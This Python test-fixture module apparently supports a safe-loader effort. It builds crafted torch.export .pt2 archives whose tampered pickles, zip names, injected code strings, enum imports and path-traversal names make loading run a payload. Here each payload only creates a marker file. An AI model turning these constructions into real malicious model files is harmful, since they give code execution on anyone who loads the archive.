"""Crafted torch.export archives: each construction would run a payload if loaded unguarded.

Every construction starts from a real `torch.export.save` archive (`save_programs`) and
changes it the way issue 8 describes ((a)-(d)) or a variant; its payload creates a
marker file when unpickled or run. `UNSAFE` maps a name to (program, construction);
`LIVE` names those whose payload torch.export.load itself runs.
"""

from __future__ import annotations

import io
import json
import pickle
import warnings
import zipfile
from pathlib import Path

import torch
from torch import nn

__all__ = [
    "LIVE",
    "MODEL",
    "ROOT",
    "UNSAFE",
    "Payload",
    "archive_members",
    "build",
    "pickled",
    "save_programs",
    "write",
]

ROOT = "archive"  # the root folder torch.export.save gives an archive written to a buffer
WEIGHTS = f"{ROOT}/data/weights/model_weights_config.json"
CONSTANTS = f"{ROOT}/data/constants/model_constants_config.json"
MODEL = f"{ROOT}/models/model.json"
SAMPLES = f"{ROOT}/data/sample_inputs/model.pt"


class Net(nn.Module):
    """A linear layer, a buffer and a tensor constant: weights, buffers and constants."""

    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(4, 3)
        self.register_buffer("shift", torch.ones(3))
        self.scale = torch.tensor([2.0, 3.0, 4.0])

    def forward(self, x):
        return self.linear(x) * self.scale + self.shift


class Branch(nn.Module):
    """A `torch.cond`: subgraphs, which the graph reaches by attribute name."""

    def forward(self, x):
        return torch.cond(x.sum() > 0, lambda x: x + 1, lambda x: x - 1, (x,))


class Payload:
    """Unpickling it creates the file `marker`."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return open, (self.marker, "w")


def save_program(module: nn.Module, example: torch.Tensor, dynamic: bool = False) -> bytes:
    """`torch.export.save` bytes of `module` (a dynamic batch dimension if `dynamic`)."""
    shapes = {"x": {0: torch.export.Dim("batch", min=2)}} if dynamic else None
    buffer = io.BytesIO()
    torch.export.save(torch.export.export(module, (example,), dynamic_shapes=shapes), buffer)
    return buffer.getvalue()


# ------------------------------------------------------------------- building


def archive_members(data: bytes) -> list[tuple[str, bytes]]:
    """(name, bytes) of every member of archive `data`, in order."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def write(path: Path, members, *, patch=(), compression=zipfile.ZIP_STORED) -> Path:
    """Writes `members` (duplicates kept) as a zip at `path`, then applies byte `patch`es."""
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w", compression) as archive:
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names
        for name, data in members:
            archive.writestr(name, data)
    raw = path.read_bytes()
    for old, new in patch:  # zipfile cannot write some names (NUL, raw bytes)
        raw = raw.replace(old, new)
    path.write_bytes(raw)
    return path


def pickled(obj) -> bytes:
    """`torch.save` bytes of `obj`."""
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def _edit_json(members, name: str, edit) -> list[tuple[str, bytes]]:
    out = []
    for member, data in members:
        if member == name:
            value = json.loads(data)
            value = edit(value) or value
            data = json.dumps(value).encode()
        out.append((member, data))
    return out


def _replace_text(members, name: str, old: str, new: str) -> list[tuple[str, bytes]]:
    """`members` with `old` replaced in member `name` (JSON), which must contain it."""
    data = dict(members)[name].decode()
    assert old in data
    return [(m, data.replace(old, new).encode() if m == name else d) for m, d in members]


def _pickle_entry(config: dict, path_name: str) -> dict:
    """`config` with its first entry unpickled from `path_name` (torch: weights_only=False)."""
    key = next(iter(config["config"]))
    config["config"][key].update(path_name=path_name, use_pickle=True)
    return config


def _object_entry(path_name: str):
    def edit(config):
        entry = {"path_name": path_name, "is_param": False, "use_pickle": True, "tensor_meta": None}
        config["config"]["obj"] = entry

    return edit


def _module_on_path(tmp_path, monkeypatch, marker) -> str:
    """An importable module (unique name) that creates `marker` when imported."""
    name = f"payload_{tmp_path.name.replace('-', '_')}"
    (tmp_path / f"{name}.py").write_text(
        f"import enum\nopen({str(marker)!r}, 'w').close()\n"
        "class E(enum.Enum):\n    A = 1\ndef make():\n    return None\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    return name


def _in_spec(edit):
    """A model.json edit of the input pytree spec's kwargs node (a `builtins.dict`)."""

    def edit_model(model):
        signature = model["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(signature["in_spec"])
        edit(spec[1]["children_spec"][1])
        signature["in_spec"] = json.dumps(spec)

    return edit_model


def _enum_context(fqn: str, name: str):
    def edit(node):
        node["context"] = json.dumps([{"__enum__": True, "fqn": fqn, "name": name}])

    return edit


def _factory_context(module: str, name: str):
    def edit(node):
        node["type"] = "collections.defaultdict"  # its context is an object, not a string
        node["context"] = {
            "default_factory_module": module,
            "default_factory_name": name,
            "dict_context": [],
        }

    return edit


# -------------------------------------------------------------- constructions
# Each builds (members, byte patches) from a real archive's members; `env` holds
# marker, tmp_path and monkeypatch. Names follow issue 8's (a)-(d), then variants.


def _a_legacy_fallback(members, env):
    """(a) `<root>/archive_format` beside the pre-2.8 layout: torch.export.load falls back."""
    legacy = [
        ("version", b"8.0"),
        ("serialized_exported_program.json", dict(members)[MODEL]),
        ("serialized_state_dict.pt", pickled(Payload(env["marker"]))),
        ("serialized_constants.pt", pickled(Payload(env["marker"]))),
        ("serialized_example_inputs.pt", pickled(((), {}))),
    ]
    return [(f"{ROOT}/archive_format", b"pt2"), *legacy], ()


def _a_legacy_beside_pt2(members, env):
    """(a) A complete .pt2 plus the legacy top-level members (torch's reader rejects those)."""
    legacy, _ = _a_legacy_fallback(members, env)
    return members + legacy[1:], ()


def _evil_weights(members, env):
    config = _pickle_entry(json.loads(dict(members)[WEIGHTS]), "evil")
    return json.dumps(config).encode(), (
        f"{ROOT}/data/weights/evil",
        pickled(Payload(env["marker"])),
    )


def _b_nul_name(members, env):
    """(b) zipfile reads the harmless config named with a NUL, torch the pickling one."""
    evil, payload = _evil_weights(members, env)
    harmless = dict(members)[WEIGHTS]
    changed = [(n, evil if n == WEIGHTS else d) for n, d in members]
    return [*changed, payload, (WEIGHTS + "Z0", harmless)], [(b".jsonZ0", b".json\x000")]


def _c_nested_model(members, env):
    """(c) A second program at models/sub/m.json, its config at data/weights/sub/..."""
    data = dict(members)
    evil, payload = _evil_weights(members, env)
    return [
        *members,
        (f"{ROOT}/models/sub/m.json", data[MODEL]),
        (f"{ROOT}/data/weights/sub/m_weights_config.json", evil),
        (f"{ROOT}/data/constants/sub/m_constants_config.json", data[CONSTANTS]),
        (f"{ROOT}/data/sample_inputs/sub/m.pt", data[SAMPLES]),
        payload,
    ], ()


def _d_duplicate_first(members, env):
    """(d) The pickling config twice over the harmless one's name, first copy."""
    evil, payload = _evil_weights(members, env)
    return [(WEIGHTS, evil), *members, payload], ()


def _d_duplicate_last(members, env):
    evil, payload = _evil_weights(members, env)
    return [*members, (WEIGHTS, evil), payload], ()


def _d_duplicate_case(members, env):
    """(d) Names that differ in case only: torch's look-ups ignore case."""
    evil, payload = _evil_weights(members, env)
    return [(WEIGHTS.replace("model_weights", "MODEL_weights"), evil), *members, payload], ()


def _pickled_weight(members, env):
    evil, payload = _evil_weights(members, env)
    return [*((n, evil if n == WEIGHTS else d) for n, d in members), payload], ()


def _pickled_constant(members, env):
    edited = _edit_json(members, CONSTANTS, lambda c: _pickle_entry(c, "tensor_evil"))
    return [*edited, (f"{ROOT}/data/constants/tensor_evil", pickled(Payload(env["marker"])))], ()


def _sample_inputs_retry(members, env):
    """Sample inputs that fail weights_only: torch retries with weights_only=False."""
    sample = pickled(((torch.ones(2, 4),), {}, Payload(env["marker"])))
    return [(n, sample if n == SAMPLES else d) for n, d in members], ()


def _legacy_weights_file(members, env):
    return [*members, (f"{ROOT}/data/weights/model.pt", pickled(Payload(env["marker"])))], ()


def _legacy_constants_file(members, env):
    return [*members, (f"{ROOT}/data/constants/model.pt", pickled(Payload(env["marker"])))], ()


def _opaque_object(members, env):
    edited = _edit_json(members, CONSTANTS, _object_entry("opaque_obj_0"))
    obj = (f"{ROOT}/data/constants/opaque_obj_0", pickle.dumps(Payload(env["marker"])))
    return [*edited, obj], ()


def _custom_object(members, env):
    edited = _edit_json(members, CONSTANTS, _object_entry("custom_obj_0"))
    return [*edited, (f"{ROOT}/data/constants/custom_obj_0", b"PK\x03\x04")], ()


def _aotinductor(members, env):
    return [*members, (f"{ROOT}/data/aotinductor/model/model.so", b"\x7fELF")], ()


def _placeholder_name(members, env):
    """An input named `x=open(...)`: fx writes it as a default value, run at load."""
    name = json.dumps(f"x=open({str(env['marker'])!r}, 'w')")
    return _replace_text(members, MODEL, '"x"', name), ()


def _shape_expression(members, env):
    """A shape expression that sympify evaluates as Python."""
    symbol = "Symbol('s"
    model = dict(members)[MODEL].decode()
    start = model.index(symbol)
    expression = model[start : model.index(")", start) + 1]
    payload = f"(open({str(env['marker'])!r}, 'w') and 0) + {expression}"
    return _replace_text(members, MODEL, expression, payload), ()


def _enum_import(members, env):
    module = _module_on_path(env["tmp_path"], env["monkeypatch"], env["marker"])
    return _edit_json(members, MODEL, _in_spec(_enum_context(f"{module}:E", "A"))), ()


def _factory_import(members, env):
    module = _module_on_path(env["tmp_path"], env["monkeypatch"], env["marker"])
    return _edit_json(members, MODEL, _in_spec(_factory_context(module, "make"))), ()


def _enum_loads_library(members, env):
    """`ctypes.cdll[name]` through a pytree enum: a native library load."""
    return _edit_json(members, MODEL, _in_spec(_enum_context("ctypes:cdll", "libc.so.6"))), ()


def _argument_name(members, env):
    """An argument name that `program.module()` writes as a default value."""

    def edit(model):
        signature = model["graph_module"]["module_call_graph"][0]["signature"]
        signature["forward_arg_names"] = [f"x=open({str(env['marker'])!r}, 'w')"]

    return _edit_json(members, MODEL, edit), ()


def _input_guard(members, env):
    """A guard that `program.module()` compiles and runs with each call."""
    guard = f"open({str(env['marker'])!r}, 'w') is not None"
    return _edit_json(members, MODEL, lambda model: model.update(guards_code=[guard])), ()


def _subgraph_name(members, env):
    name = f'true_graph_0")\nopen({str(env["marker"])!r}, "w")\nif 1:#'
    return _replace_text(members, MODEL, '"true_graph_0"', json.dumps(name)), ()


def _outside_root(name):
    return lambda members, env: ([*members, (name, b"{}")], ())


def _control_name(members, env):
    return [*members, (f"{ROOT}/extra/\x1b[31mred", b"x")], ()


def _non_utf8_name(members, env):
    return [*members, (f"{ROOT}/extra/nameZ", b"x")], [(b"nameZ", b"name\xff")]


UNSAFE = {
    "a-legacy-fallback": ("plain", _a_legacy_fallback),
    "a-legacy-beside-pt2": ("plain", _a_legacy_beside_pt2),
    "b-nul-name": ("plain", _b_nul_name),
    "c-nested-model": ("plain", _c_nested_model),
    "d-duplicate-first": ("plain", _d_duplicate_first),
    "d-duplicate-last": ("plain", _d_duplicate_last),
    "d-duplicate-case": ("plain", _d_duplicate_case),
    "pickled-weight": ("plain", _pickled_weight),
    "pickled-constant": ("plain", _pickled_constant),
    "sample-inputs-retry": ("plain", _sample_inputs_retry),
    "legacy-weights-file": ("plain", _legacy_weights_file),
    "legacy-constants-file": ("plain", _legacy_constants_file),
    "opaque-object": ("plain", _opaque_object),
    "custom-object": ("plain", _custom_object),
    "aotinductor": ("plain", _aotinductor),
    "placeholder-name": ("plain", _placeholder_name),
    "shape-expression": ("dynamic", _shape_expression),
    "enum-import": ("plain", _enum_import),
    "factory-import": ("plain", _factory_import),
    "enum-loads-library": ("plain", _enum_loads_library),
    "argument-name": ("plain", _argument_name),
    "input-guard": ("dynamic", _input_guard),
    "subgraph-name": ("branch", _subgraph_name),
    "dot-dot-name": ("plain", _outside_root(f"{ROOT}/../escape")),
    "absolute-name": ("plain", _outside_root("/etc/escape")),
    "empty-part-name": ("plain", _outside_root(f"{ROOT}//escape")),
    "backslash-name": ("plain", _outside_root(f"{ROOT}/data\\escape")),
    "second-root": ("plain", _outside_root("other/archive_format")),
    "control-character-name": ("plain", _control_name),
    "non-utf8-name": ("plain", _non_utf8_name),
}
# Those whose payload torch itself runs, unguarded, from torch.export.load alone.
LIVE = [
    "a-legacy-fallback",
    "b-nul-name",
    "c-nested-model",
    "pickled-weight",
    "pickled-constant",
    "sample-inputs-retry",
    "legacy-weights-file",
    "opaque-object",
    "placeholder-name",
    "shape-expression",
    "enum-import",
    "factory-import",
]


def build(name: str, programs: dict[str, bytes], env: dict) -> Path:
    """Writes construction `name` of `UNSAFE` into env["tmp_path"] and returns its path.

    `programs` maps "plain", "dynamic" and "branch" to archive bytes (`save_programs`);
    `env` holds "marker" (the payload's file), "tmp_path" and "monkeypatch".
    """
    program, construct = UNSAFE[name]
    built, patch = construct(archive_members(programs[program]), env)
    return write(env["tmp_path"] / f"{name}.pt2", built, patch=patch)


def save_programs() -> dict[str, bytes]:
    """Archive bytes of real programs: plain, with a dynamic batch, with subgraphs."""
    return {
        "plain": save_program(Net(), torch.randn(2, 4)),
        "dynamic": save_program(Net(), torch.randn(5, 4), dynamic=True),
        "branch": save_program(Branch(), torch.randn(3)),
    }
